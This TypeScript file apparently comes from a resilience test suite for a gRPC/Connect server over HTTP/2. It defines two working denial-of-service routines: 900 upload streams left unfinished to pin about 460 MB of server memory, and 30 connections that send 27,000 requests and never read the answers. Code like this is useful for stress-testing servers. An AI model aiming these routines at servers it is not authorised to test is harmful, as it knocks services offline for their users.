import { connect } from "node:http2";
import { setTimeout as wait } from "node:timers/promises";
import { Code } from "@connectrpc/connect";
import { envelope } from "../http2-frames.ts";
import { methods } from "../methods.ts";
import { openRawHttp2 } from "../raw-http2.ts";
import { type Attack, tally } from "../target.ts";

const unfinishedCalls = 900;
const messageBytes = 500 * 1024;
const missingBytes = 100;
const sendingMs = 8_000;

/** What Node's client may hold for one connection, in MB: all of the bodies. */
const clientSessionMegabytes = 10_000;

/** 900 chunks of an upload on one connection, each all but its last hundred bytes: 460 MB that nothing can be done with. */
export const unfinishedBodies: Attack = async (target) => {
  const session = connect(target.url, { maxSessionMemory: clientSessionMegabytes });
  session.on("error", () => {});
  const body = envelope(0, Buffer.alloc(messageBytes)).subarray(0, -missingBytes);
  const endings = new Map<number, string>();
  try {
    for (let call = 0; call < unfinishedCalls; call++) {
      const stream = session.request({
        ":method": "POST",
        ":path": methods.uploadChunk,
        "content-type": "application/grpc",
        te: "trailers",
      });
      const onStatus = (fields: Record<string, unknown>) => {
        const status = fields["grpc-status"];
        if (status !== undefined) endings.set(call, Code[Number(status)] ?? `status ${status}`);
      };
      stream.on("error", () => {});
      stream.on("response", onStatus);
      stream.on("trailers", onStatus);
      stream.resume();
      stream.write(body);
    }
    await wait(sendingMs);
  } finally {
    session.destroy();
  }
  return tally(Array.from({ length: unfinishedCalls }, (_, call) => endings.get(call) ?? "held"));
};

const unreadConnections = 30;
const unreadCalls = 900;
const holdingMs = 4_000;

/** 27,000 answers of 50 KB each, on thirty connections that read nothing. */
export const unreadAnswers: Attack = async (target) => {
  using connections = new DisposableStack();
  const empty = envelope(0, new Uint8Array(0));
  for (let count = 0; count < unreadConnections; count++) {
    const raw = connections.use(await openRawHttp2(target, { reads: false }));
    const request = (_: unknown, call: number) => raw.request(2 * call + 1, methods.listInstruments, { body: empty });
    await raw.send(Buffer.concat(Array.from({ length: unreadCalls }, request)));
  }
  await wait(holdingMs);
  return { unread: unreadConnections * unreadCalls };
};
